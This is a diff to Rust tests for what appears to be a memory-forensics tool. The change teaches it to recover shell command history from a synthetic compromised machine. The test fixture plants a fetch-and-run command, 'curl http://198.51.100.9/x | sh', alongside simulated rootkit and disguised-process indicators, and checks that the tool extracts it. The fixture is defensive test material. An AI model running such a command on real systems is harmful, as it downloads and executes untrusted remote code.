@@ -12,15 +12,25 @@ use crate::file_scan::Account;
 use crate::parser::Context;
 use crate::record::{self, Place};
 
-const ALL: [Artefact; 5] =
-    [Artefact::Host, Artefact::Processes, Artefact::Modules, Artefact::Sockets, Artefact::Lines];
+const ALL: [Artefact; 6] = [
+    Artefact::Host,
+    Artefact::Processes,
+    Artefact::Modules,
+    Artefact::Sockets,
+    Artefact::Commands,
+    Artefact::Lines,
+];
 
 /// A machine with three processes, two modules and four sockets.
 pub(super) fn machine() -> MadeKernel {
     let mut made = MadeKernel::new();
     let web = made.process(100, "nginx", 33, 5_000_000_000);
     let evil = made.process(200, "kworkerd", 0, 60_250_000_000);
-    made.process(201, "bash", 1000, 61_000_000_000);
+    let shell = made.process(201, "bash", 1000, 61_000_000_000);
+    made.remember(
+        shell,
+        &[("#1795168861\0", "curl http://198.51.100.9/x | sh\0"), ("#17951688\0", "no time\0")],
+    );
     made.delete_executable(evil);
     made.module("e1000", 0xffff_ffff_c000_0000, 0x8000);
     made.module("rootkit", 0xffff_ffff_c010_0000, 0x4000);
@@ -94,6 +104,10 @@ fn processes_modules_sockets_and_boot_are_read_by_the_kernels_own_types() {
     assert_eq!(
         lines(&image, Artefact::Lines),
         ["2026-11-20T10:00:01Z sshd[9]: Accepted password for root from 192.0.2.7 port 5 ssh2"]
+    );
+    assert_eq!(
+        lines(&image, Artefact::Commands),
+        ["2026-11-20T10:01:01Z bash (201): curl http://198.51.100.9/x | sh"]
     );
     assert_eq!(image.issues(), [""; 0]);
     assert_eq!(image.host().as_deref(), Some("made01"));
@@ -257,7 +271,7 @@ fn missing_pages_cost_only_what_lay_in_them() {
         let mut damaged = made.clone();
         damaged.memory[page * 4096..(page + 1) * 4096].fill(0);
         let image = open(damaged.image(), &MadeKernel::pack());
-        for artefact in &ALL[..4] {
+        for artefact in &ALL[..5] {
             let (rows, account) = read(&image, *artefact);
             let lost = rows.is_empty() || rows.len() < all;
             let said = account.stopped.is_some() || account.failed > 0 || !image.issues().is_empty();
@@ -293,7 +307,7 @@ fn random_damage_gives_rows_and_rejects_but_never_a_panic() {
             pack[1].1 = Arc::new(types);
         }
         let image = open(damaged.image(), &pack);
-        for artefact in &ALL[..4] {
+        for artefact in &ALL[..5] {
             for row in read(&image, *artefact).0 {
                 assert!(row.span.end() <= image.source().len() && row.span.length > 0);
             }
